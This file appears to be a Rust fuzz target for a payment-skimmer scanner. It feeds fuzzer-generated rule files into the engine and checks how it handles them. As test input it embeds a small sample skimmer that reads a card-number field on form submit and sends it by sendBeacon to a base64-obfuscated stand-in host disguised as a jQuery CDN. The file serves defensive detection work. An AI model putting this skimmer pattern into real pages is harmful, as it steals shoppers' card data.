//! Target `rules`: a rule or data file from `--rules DIR`, added to the shipped rules. A bad
//! file is refused naming the file; a good one is usable: the engine compiles it (vocabulary,
//! processors, brands, typed conditions, indicator regexes) and analyses a skimmer with it,
//! and every finding names a loaded rule.

use skimscan::js::{Engine, HostPolicy};
use skimscan::rules::RuleSet;
use std::path::Path;
use std::sync::{Arc, OnceLock};

/// Where the file sits in the rules directory: the first input byte picks a place, so data
/// files get their typed schemas checked too.
const PLACES: &[&str] = &[
    "code/custom.toml",
    "indicators/custom.toml",
    "data/payment-vocabulary.toml",
    "data/processors.toml",
    "data/well-known-hosts.toml",
    "page/custom.toml",
];

/// A small skimmer the new rules are run on.
const SKIMMER: &str = "document.querySelector('form').addEventListener('submit', function () {\n  var d = document.getElementById('cc-number').value;\n  navigator.sendBeacon(atob('aHR0cHM6Ly9jZG4tanF1ZXJ5LXN0YXRpYy5leGFtcGxlL2MucGhw'), d);\n});\n";

fn shipped() -> &'static RuleSet {
    static SHIPPED: OnceLock<RuleSet> = OnceLock::new();
    SHIPPED.get_or_init(|| RuleSet::load(false, &[]).expect("the shipped rules load"))
}

pub fn run(data: &[u8]) {
    let Some((&place, rest)) = data.split_first() else {
        return;
    };
    let Ok(text) = std::str::from_utf8(rest) else {
        return;
    };
    let rel = Path::new(PLACES[usize::from(place) % PLACES.len()]);
    let name = format!("custom-rules/{}", rel.display());
    let mut set = shipped().clone();
    if let Err(e) = set.add_file(&name, rel, text) {
        assert_eq!(e.path, name, "the error names the file: {e}");
        return;
    }
    let set = Arc::new(set);
    let engine = Engine::new(set.clone(), HostPolicy::default());
    let job = super::js::checkout_job(SKIMMER);
    for analysis in engine.analyse_batch(vec![job]) {
        super::js::check_analysis(SKIMMER, &set, &analysis);
    }
}
